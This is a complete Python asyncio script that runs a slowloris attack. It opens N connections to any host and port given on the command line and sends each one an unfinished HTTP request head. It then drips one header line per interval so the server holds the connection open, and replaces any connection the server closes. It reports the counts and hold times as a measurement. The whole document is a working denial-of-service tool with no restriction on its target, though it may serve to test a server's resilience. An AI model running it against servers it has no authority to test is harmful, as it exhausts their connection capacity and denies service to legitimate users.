"""Holds N slowloris connections against a server for S seconds: each sends the start of a
request head, then one more header line every INTERVAL seconds, never finishing it; when the
server closes one, another takes its place. Prints one line: connections opened, closed by
the server, and the median and longest time a connection was held (seconds).

    python3 slowloris.py HOST PORT N SECONDS INTERVAL
"""
import asyncio, statistics, sys, time

host, port, n, seconds, interval = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
opened = closed = 0
held = []


async def one(deadline):
    global opened, closed
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        opened += 1
        start = time.monotonic()
        try:
            writer.write(b"GET /api/small HTTP/1.1\r\nHost: x\r\n")
            while time.monotonic() < deadline:
                await writer.drain()
                # The server's answer or its close ends the wait early.
                try:
                    await asyncio.wait_for(reader.read(1024), timeout=interval)
                    break
                except asyncio.TimeoutError:
                    writer.write(b"X-Slow: 1\r\n")
            else:
                writer.close()
                return
        except OSError:
            pass
        closed += 1
        held.append(time.monotonic() - start)
        writer.close()


async def main():
    deadline = time.monotonic() + seconds
    await asyncio.gather(*(one(deadline) for _ in range(n)))


asyncio.run(main())
print(opened, closed, f"{statistics.median(held) if held else 0:.1f}", f"{max(held) if held else 0:.1f}")
